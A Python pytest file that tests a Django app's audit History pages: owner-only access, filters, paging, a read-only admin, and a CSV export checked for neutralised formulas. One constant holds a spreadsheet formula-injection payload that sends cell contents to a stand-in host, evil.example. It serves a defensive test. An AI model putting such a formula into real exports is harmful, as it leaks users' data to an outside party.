"""The History pages: owners only, filtered, paged, downloadable as CSV without live formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from sevenc.audit.context import acting
from sevenc.audit.models import Event
from sevenc.audit.views import PER_PAGE
from sevenc.clients.services import update_client
from sevenc.tenancy.scoping import Scope

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"details")'


def _rename(client_co, name, user=None):  # type: ignore[no-untyped-def]
    fields = {"seats": client_co.seats, "vertical": client_co.vertical, "fiscal_year_start_month": 1}
    if user is None:
        return update_client(scope=Scope(client_co.msp), client=client_co, name=name, **fields)
    with acting(user=user, via="web"):
        return update_client(scope=Scope(client_co.msp), client=client_co, name=name, **fields)


def _urls(client_co):  # type: ignore[no-untyped-def]
    event = Event.objects.filter(client_id=client_co.pk).first()
    return [
        reverse("audit_client_history", args=[client_co.pk]),
        reverse("audit_client_history_csv", args=[client_co.pk]),
        reverse("audit_msp_history"),
        reverse("audit_msp_history_csv"),
        reverse("audit_event", args=[event.pk]),
    ]


@pytest.mark.parametrize("role", ["vcio", "engineer", "client_viewer"])
def test_every_history_page_is_not_found_for_roles_other_than_owner(request, client, client_co, role):
    client.force_login(request.getfixturevalue(role))
    assert [client.get(url).status_code for url in _urls(client_co)] == [404] * 5


def test_the_owner_sees_the_client_history_with_each_change_before_and_after(client, owner, client_co):
    _rename(client_co, "Acme Dental Group", user=owner)
    client.force_login(owner)
    page = client.get(reverse("audit_client_history", args=[client_co.pk]))
    assert page.status_code == 200
    body = page.content.decode()
    assert "History of Acme Dental Group" in body
    assert "Acme Dental → Acme Dental Group" in body
    assert 'aria-current="page">History</a>' in body  # the client's tab


def test_the_client_tab_and_the_main_menu_offer_history_to_owners_only(client, owner, vcio, client_co):
    client.force_login(vcio)
    assert "/history/" not in client.get(reverse("client_detail", args=[client_co.pk])).content.decode()
    client.force_login(owner)
    body = client.get(reverse("client_detail", args=[client_co.pk])).content.decode()
    assert reverse("audit_client_history", args=[client_co.pk]) in body
    assert reverse("audit_msp_history") in body


def test_the_msp_history_filters_by_client_person_kind_action_and_dates(
    client, owner, vcio, client_co, other_client
):
    _rename(client_co, "Acme One", user=vcio)
    _rename(other_client, "Harbor Two", user=owner)
    client.force_login(owner)
    url = reverse("audit_msp_history")

    def shown(**query):  # type: ignore[no-untyped-def]
        rows = client.get(url, query).context["rows"]
        return {(event.object_name, event.action) for event, _, _ in rows}

    assert shown(client=other_client.pk, action="changed") == {("Harbor Two", "changed")}
    assert shown(person=vcio.pk, kind="clients.client") == {("Acme One", "changed")}
    assert ("Acme One", "created") not in shown(person="system")
    assert ("Acme Dental", "created") in shown(person="system", kind="clients.client")
    tomorrow = timezone.localdate() + dt.timedelta(days=1)
    assert shown(since=tomorrow.isoformat()) == set()
    assert len(shown(until=timezone.localdate().isoformat())) > 2
    refused = client.get(url, {"since": "2026-05-02", "until": "2026-05-01"})
    assert "must not be before the start of the range" in refused.content.decode()


def test_the_history_is_paged_newest_first(client, owner, client_co):
    for n in range(PER_PAGE + 5):
        _rename(client_co, f"Acme {n}")
    client.force_login(owner)
    url = reverse("audit_client_history", args=[client_co.pk])
    first = client.get(url, {"kind": "clients.client"})
    assert first.context["rows"][0][0].object_name == f"Acme {PER_PAGE + 4}"
    assert first.context["page"].paginator.num_pages == 2
    assert "kind=clients.client&amp;page=2" in first.content.decode()
    second = client.get(url, {"kind": "clients.client", "page": 2})
    assert len(second.context["rows"]) == 6  # five more renames and the creation


def test_the_csv_export_follows_the_filters_and_carries_no_live_formula(client, owner, client_co):
    _rename(client_co, FORMULA, user=owner)
    client.force_login(owner)
    response = client.get(reverse("audit_client_history_csv", args=[client_co.pk]), {"action": "changed"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["time", "actor", "via", "action"]
    assert len(rows) == 2
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert "'" + FORMULA in cells  # the object's name, neutralised
    assert rows[1][-1] == f"name: Acme Dental → {FORMULA}"


def test_an_event_page_shows_every_field_before_and_after(client, owner, client_co):
    _rename(client_co, "Acme Renamed", user=owner)
    event = Event.objects.get(model="clients.client", action="changed")
    client.force_login(owner)
    body = client.get(reverse("audit_event", args=[event.pk])).content.decode()
    assert "By owner through the web" in body
    assert '<td class="prewrap">Acme Dental</td><td class="prewrap">Acme Renamed</td>' in body


def test_the_history_pages_change_nothing_on_post(client, owner, client_co):
    client.force_login(owner)
    count = Event.objects.count()
    assert {client.post(url).status_code for url in _urls(client_co)} == {405}
    assert Event.objects.count() == count


def test_the_admin_shows_the_trail_to_superusers_read_only_and_not_to_owners(
    client, owner, client_co, django_user_model
):
    event = Event.objects.first()
    client.force_login(owner)
    assert client.get(reverse("admin:audit_event_changelist")).status_code == 403
    root = django_user_model.objects.create_superuser("root", "root@example.com", "a-long-root-password")
    client.force_login(root)
    assert client.get(reverse("admin:audit_event_changelist")).status_code == 200
    change = client.post(reverse("admin:audit_event_change", args=[event.pk]), {"action": "nothing"})
    assert change.status_code == 403 or Event.objects.get(pk=event.pk).action == event.action
    assert (
        client.post(reverse("admin:audit_event_delete", args=[event.pk]), {"post": "yes"}).status_code == 403
    )
    assert Event.objects.filter(pk=event.pk).exists()
